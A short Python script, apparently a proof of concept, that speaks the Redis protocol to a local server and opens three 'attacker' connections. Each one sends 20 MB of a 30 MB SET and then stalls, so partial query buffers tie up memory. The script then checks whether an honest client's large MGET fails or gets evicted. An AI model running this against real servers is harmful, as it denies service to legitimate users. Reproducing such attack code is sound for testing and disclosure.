import socket,time
P=22506
def req(*a):
    out=b"*%d\r\n"%len(a)
    for x in a: out+=b"$%d\r\n%s\r\n"%(len(x),x)
    return out
def info(field):
    s=socket.create_connection(('127.0.0.1',P)); s.sendall(req(b"INFO",b"clients")); time.sleep(0.2)
    d=s.recv(65536).decode(); s.close()
    return [l for l in d.splitlines() if field in l]
s=socket.create_connection(('127.0.0.1',P)); f=s.makefile('rb')
for i in range(4): s.sendall(req(b"APPEND",b"big",b"v"*(1<<20))); f.readline()
# attacker: 3 connections each send 20 MB of a 30 MB SET and stop (no further bandwidth)
att=[]
for i in range(3):
    a=socket.create_connection(('127.0.0.1',P))
    a.sendall(b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$31457280\r\n"); a.sendall(b"x"*(20<<20)); att.append(a)
time.sleep(3)
print(info("client_query_buffers"))
t=time.monotonic()
for k in range(3):
    s.sendall(req(b"MGET",*[b"big"]*4)); l=f.readline(); print("honest 16MB MGET ->", l[:90])
    if l.startswith(b"*"):
        for j in range(4): n=f.readline(); f.read(int(n[1:])+2)
    time.sleep(2)
print(info("client_query_buffers"), "evicted:", info("evicted"))
